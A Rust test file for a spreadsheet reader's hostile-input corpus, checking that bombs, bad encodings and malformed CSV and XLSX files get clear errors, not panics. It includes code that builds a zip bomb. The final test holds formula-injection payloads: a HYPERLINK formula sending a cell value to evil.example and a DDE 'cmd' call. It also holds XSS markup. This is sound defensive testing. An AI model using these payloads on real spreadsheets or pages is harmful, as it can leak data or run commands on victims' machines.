//! The hostile-input corpus (tests/hostile/, plus files too big to commit,
//! built here): every file gets a defined message naming the file, and the
//! row and column where there is one, and never a panic or a hang.

use opscalc_core::{read_bytes, to_csv, ReadError, ReadOptions, ReadResult};
use std::io::Write;
use std::path::PathBuf;
use std::time::{Duration, Instant};

fn hostile(name: &str) -> Vec<u8> {
    let p = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../../tests/hostile")
        .join(name);
    std::fs::read(&p).unwrap_or_else(|e| panic!("{}: {e}", p.display()))
}

/// Reads within a time limit (debug build), so a hang fails the test.
fn read(name: &str, bytes: &[u8], limit_secs: u64) -> Result<ReadResult, ReadError> {
    let t = Instant::now();
    let r = read_bytes(name, bytes, &ReadOptions::default());
    assert!(
        t.elapsed() < Duration::from_secs(limit_secs),
        "{name} took {:?}",
        t.elapsed()
    );
    r
}

fn err(name: &str, bytes: &[u8]) -> String {
    read(name, bytes, 10).map(|_| ()).unwrap_err().to_string()
}

const HEADER: &str = "订单编号,买家会员名,订单付款时间,实付金额,订单状态";

#[test]
fn empty_file_header_only_and_bom_only() {
    assert_eq!(
        err("empty.csv", &hostile("empty.csv")),
        "empty.csv: the file is empty: no header row"
    );
    assert_eq!(
        err("bom-only.csv", &hostile("bom-only.csv")),
        "bom-only.csv: the file is empty: no header row"
    );
    let r = read("header-only.csv", &hostile("header-only.csv"), 10).unwrap();
    assert_eq!(r.table.headers().join(","), HEADER);
    assert_eq!(r.table.len(), 0);
}

#[test]
fn ten_thousand_columns() {
    let text = format!(
        "{}\n{}\n",
        vec!["h"; 10_000].join(","),
        vec!["1"; 10_000].join(",")
    );
    assert_eq!(
        err("wide.csv", text.as_bytes()),
        "wide.csv: row 1: 10000 columns; at most 4096 are supported (is this really a table?)"
    );
}

#[test]
fn fifty_megabyte_line() {
    let line = vec![b'x'; 50 << 20];
    assert_eq!(
        err("line.csv", &line),
        "line.csv: row 1: header 1 is 52428800 bytes long; at most 1024 are supported (is this really a table?)"
    );
    // The same line as a data cell is read, as one (long) cell.
    let mut file = b"buyer,amount\n".to_vec();
    file.extend_from_slice(&line);
    file.extend_from_slice(b",12\n");
    let r = read("cell.csv", &file, 20).unwrap();
    assert_eq!(r.table.cell(0, 0).len(), 50 << 20);
    assert_eq!(r.table.cell(0, 1), "12");
}

#[test]
fn a_cell_bomb_is_refused() {
    // A 4,096-column header and 30,000 one-character lines would pad out
    // to 123 million cells from a 68 KB file.
    let mut text = vec!["h"; 4096].join(",");
    text.push('\n');
    text.push_str(&"x\n".repeat(30_000));
    let Err(e) = read("bomb.csv", text.as_bytes(), 30) else {
        panic!("the cell bomb was read");
    };
    assert_eq!(e.row, Some(29_298));
    assert_eq!(
        e.message,
        "the table is over 120000000 cells (29297 rows × 4096 columns so far); split the file"
    );
}

#[test]
fn nul_bytes() {
    assert_eq!(
        err("nul-bytes.csv", &hostile("nul-bytes.csv")),
        "nul-bytes.csv: row 3, column 买家会员名: the file contains NUL bytes, so it is not a text table (a binary file, or UTF-16 saved without a BOM?); choose the encoding or save it again as CSV"
    );
}

#[test]
fn invalid_utf8_is_replaced_and_named() {
    let r = read("invalid-utf8.csv", &hostile("invalid-utf8.csv"), 10).unwrap();
    assert_eq!(r.encoding, "UTF-8");
    assert_eq!(r.table.cell(1, 1), "b\u{FFFD}ob");
    assert_eq!(
        r.warnings,
        ["invalid-utf8.csv: the file is not valid UTF-8 or GBK; undecodable bytes (first at row 3) were replaced by \u{FFFD}"]
    );
}

#[test]
fn mixed_encodings_name_the_first_row_that_is_not_utf8() {
    // Rows 1-2 are UTF-8, row 3 is GBK: neither decoding fits the whole
    // file, so UTF-8 is kept and the GBK row is named.
    let r = read("mixed-encodings.csv", &hostile("mixed-encodings.csv"), 10).unwrap();
    assert_eq!(r.encoding, "UTF-8");
    assert_eq!(r.table.headers().join(","), HEADER);
    assert_eq!(r.table.cell(0, 1), "amy");
    assert_eq!(
        r.warnings,
        ["mixed-encodings.csv: the file is not valid UTF-8 or GBK; undecodable bytes (first at row 3) were replaced by \u{FFFD}"]
    );
}

#[test]
fn unbalanced_quote_and_duplicate_headers_are_warned() {
    let r = read("unbalanced-quote.csv", &hostile("unbalanced-quote.csv"), 10).unwrap();
    // The open quote runs to the end: row 3 swallows row 4.
    assert_eq!(r.table.len(), 2);
    assert_eq!(
        r.table.cell(1, 1),
        "bob,2024-03-02 10:00,50,交易成功\n1003,cat,2024-03-03 10:00,70,交易成功\n"
    );
    assert_eq!(
        r.warnings,
        ["unbalanced-quote.csv: the file has an unbalanced quote; rows after it may be merged into one cell"]
    );
    let r = read(
        "duplicate-headers.csv",
        &hostile("duplicate-headers.csv"),
        10,
    )
    .unwrap();
    assert_eq!(r.table.headers()[3..5], ["实付金额", "实付金额 (2)"]);
    assert_eq!(
        r.warnings,
        ["duplicate-headers.csv: row 1 repeats column names; renamed \"实付金额 (2)\" (another \"实付金额\")"]
    );
    // 4,096 copies of one name: renamed in linear time (this took minutes
    // when each new name was checked against all the earlier ones).
    let text = format!("{}\n", vec!["h"; 4096].join(","));
    let r = read("same.csv", text.as_bytes(), 5).unwrap();
    assert_eq!(r.table.headers()[4095], "h (4096)");
    assert!(
        r.warnings[0].ends_with("\"h (6)\" (another \"h\") and 4090 more"),
        "{}",
        r.warnings[0]
    );
}

/// An XLSX file from parts: the sheet XML and optional extra entries.
fn xlsx(sheet: &str, extra: &[(&str, Vec<u8>)], method: zip::CompressionMethod) -> Vec<u8> {
    let ns = "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"";
    let rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    let parts = [
        ("[Content_Types].xml", r#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/></Types>"#.to_string()),
        ("_rels/.rels", format!(r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>"#)),
        ("xl/workbook.xml", format!(r#"<?xml version="1.0"?><workbook {ns} xmlns:r="{rel}"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>"#)),
        ("xl/_rels/workbook.xml.rels", format!(r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#)),
        ("xl/worksheets/sheet1.xml", format!(r#"<?xml version="1.0"?><worksheet {ns}>{sheet}</worksheet>"#)),
    ];
    let mut z = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let o = zip::write::SimpleFileOptions::default().compression_method(method);
    for (n, body) in parts {
        z.start_file(n, o).unwrap();
        z.write_all(body.as_bytes()).unwrap();
    }
    for (n, body) in extra {
        z.start_file(*n, o).unwrap();
        z.write_all(body).unwrap();
    }
    z.finish().unwrap().into_inner()
}

#[test]
fn xlsx_zip_bomb_is_refused_before_unpacking() {
    // 1,100 entries that each really inflate to 1 MB: 1.1 GB from about
    // 1 MB, built by copying one compressed entry without recompressing.
    let one = {
        let mut z = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        let o = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated);
        z.start_file("pad", o).unwrap();
        z.write_all(&vec![0u8; 1 << 20]).unwrap();
        z.finish().unwrap().into_inner()
    };
    let mut src = zip::ZipArchive::new(std::io::Cursor::new(one)).unwrap();
    let base = xlsx("<sheetData/>", &[], zip::CompressionMethod::Stored);
    let mut z = zip::ZipWriter::new_append(std::io::Cursor::new(base)).unwrap();
    for i in 0..1100 {
        z.raw_copy_file_rename(src.by_index(0).unwrap(), format!("xl/media/pad{i}.bin"))
            .unwrap();
    }
    let bomb = z.finish().unwrap().into_inner();
    assert!(bomb.len() < 2 << 20, "{} bytes", bomb.len());
    assert_eq!(
        err("bomb.xlsx", &bomb),
        "bomb.xlsx: the spreadsheet would unpack to 1100 MB, over the 1024 MB limit (a zip bomb?)"
    );
}

#[test]
fn xlsx_far_apart_cells_cost_two_cells() {
    // A1 and XFD1048576: a dense range would be 17 billion cells.
    let sheet = r#"<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>buyer</t></is></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>"#;
    let f = xlsx(sheet, &[], zip::CompressionMethod::Deflated);
    assert_eq!(
        err("far.xlsx", &f),
        "far.xlsx: 16384 columns; at most 4096 are supported"
    );
    let sheet = r#"<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>buyer</t></is></c></row><row r="1048576"><c r="A1048576" t="inlineStr"><is><t>amy</t></is></c></row></sheetData>"#;
    let r = read(
        "tall.xlsx",
        &xlsx(sheet, &[], zip::CompressionMethod::Deflated),
        10,
    )
    .unwrap();
    assert_eq!(r.table.len(), 1);
    assert_eq!(r.table.row_number(0), 1_048_576);
    // A backwards dimension (found by the read_xlsx fuzz target).
    let f = xlsx(
        r#"<dimension ref="B3:A1"/><sheetData/>"#,
        &[],
        zip::CompressionMethod::Stored,
    );
    assert_eq!(
        err("back.xlsx", &f),
        "back.xlsx: the sheet xl/worksheets/sheet1.xml declares a backwards range \"B3:A1\"; save it again from Excel"
    );
}

#[test]
fn xlsx_formulas_use_saved_values_and_error_cells_are_named() {
    let r = read("formulas-errors.xlsx", &hostile("formulas-errors.xlsx"), 10).unwrap();
    assert_eq!(r.table.headers().join(","), HEADER);
    let col = |c: usize| {
        (0..r.table.len())
            .map(|i| r.table.cell(i, c))
            .collect::<Vec<_>>()
    };
    // Saved results, never the formula and never evaluated: no WEBSERVICE call.
    assert_eq!(col(1), ["amy", "amy", "bob", "cat", "cat"]);
    assert_eq!(col(3), ["100", "#DIV/0!", "#N/A", "", "30"]);
    assert_eq!(
        r.warnings,
        ["formulas-errors.xlsx: 2 cells hold spreadsheet errors (first: row 3, column 实付金额: #DIV/0!); they are read as text, so they count as unreadable values"]
    );
}

#[test]
fn dates_at_the_ends_of_the_calendar_and_extreme_amounts_read_as_text() {
    let r = read("dates-1900-9999.csv", &hostile("dates-1900-9999.csv"), 10).unwrap();
    assert_eq!(r.table.cell(0, 2), "1900-01-01 00:00");
    assert_eq!(r.table.cell(1, 2), "9999-12-31 23:59");
    let r = read(
        "amounts-negative-huge.csv",
        &hostile("amounts-negative-huge.csv"),
        10,
    )
    .unwrap();
    assert_eq!(r.table.cell(1, 3), "1e308");
}

#[test]
fn formula_injection_and_markup_stay_literal_and_exports_are_guarded() {
    let r = read(
        "formula-injection.csv",
        &hostile("formula-injection.csv"),
        10,
    )
    .unwrap();
    let buyers: Vec<String> = (0..r.table.len())
        .map(|i| r.table.cell(i, 1).to_string())
        .collect();
    assert_eq!(
        buyers,
        [
            "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")",
            "+cmd|' /C calc'!A0",
            "@SUM(1+1)",
            "-2+3"
        ]
    );
    let rows: Vec<Vec<String>> = buyers.iter().map(|b| vec![b.clone()]).collect();
    assert_eq!(
        to_csv(&["buyer"], &rows),
        "\u{FEFF}buyer\r\n\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"click\"\")\"\r\n\"'+cmd|' /C calc'!A0\"\r\n\"'@SUM(1+1)\"\r\n\"'-2+3\"\r\n"
    );
    let r = read("html-script.csv", &hostile("html-script.csv"), 10).unwrap();
    assert_eq!(r.table.cell(0, 1), "<img src=x onerror=window.__pwned=1>");
    assert_eq!(r.table.cell(1, 1), "<script>window.__pwned=1</script>");
}
